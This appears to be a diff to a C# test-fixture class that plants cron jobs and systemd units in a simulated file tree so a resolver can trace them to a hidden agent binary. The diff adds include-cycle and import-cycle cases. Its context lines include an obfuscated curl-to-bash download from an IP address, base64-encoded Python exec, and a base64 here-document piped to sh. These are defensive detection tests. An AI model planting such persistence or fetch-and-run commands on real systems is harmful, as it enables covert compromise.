@@ -67,6 +67,9 @@ internal static class ResolverPlants
         Cron("written-script", "/usr/local/sbin/refresh", tree => tree.Script("/usr/local/sbin/refresh", "#!/bin/sh\ncat > /run/refresh.sh <<'EOF'\n" + Agent + " -q\nEOF\nsh /run/refresh.sh\n")) with { AtLeast = Severity.Medium },
         Cron("disguised-download", "/usr/local/sbin/refresh", tree => tree.Script("/usr/local/sbin/refresh", "#!/bin/bash\na=cu\nb=rl\nh=198.51.100\n$a$b -s http://$h.7/u | ba''sh\n")),
         Cron("encoded-python", "python3 /usr/local/lib/sync.py", tree => tree.File("/usr/local/lib/sync.py", "import base64\nexec(base64.b64decode('" + Base64("import os\nos.system('" + Agent + "')\n") + "'))\n")),
+        Cron("include-cycle", "/usr/local/sbin/rotate-cache", tree => tree.Script("/usr/local/sbin/rotate-cache", "#!/bin/sh\n. /usr/local/lib/rotate/a.sh\n").File("/usr/local/lib/rotate/a.sh", ". /usr/local/lib/rotate/b.sh\n")
+            .File("/usr/local/lib/rotate/b.sh", ". /usr/local/lib/rotate/a.sh\n/usr/local/sbin/rotate-cache\n" + Agent + "\n")),
+        Cron("import-cycle", "python3 /usr/local/lib/sync/main.py", tree => tree.File("/usr/local/lib/sync/main.py", "import a\n").File("/usr/local/lib/sync/a.py", "import b, main\n").File("/usr/local/lib/sync/b.py", "import a\nimport os\nos.execl('" + Agent + "', 'x')\n")),
         Unit("env-split", "/usr/bin/env -S bash /usr/local/lib/app/start", tree => tree.File("/usr/local/lib/app/start", "exec -a app-sync " + Agent + "\n")),
         Unit("shebang-env-split", "/usr/local/lib/app/start", tree => tree.Script("/usr/local/lib/app/start", "#!/usr/bin/env -S python3 -u\nimport os\nos.execv('" + Agent + "', ['app'])\n")),
         Unit("here-document", "/usr/local/lib/app/start", tree => tree.Script("/usr/local/lib/app/start", "#!/bin/sh\nbase64 -d <<'EOF' | sh\n" + Base64("#!/bin/sh\n" + Agent + "\n") + "\nEOF\n")),
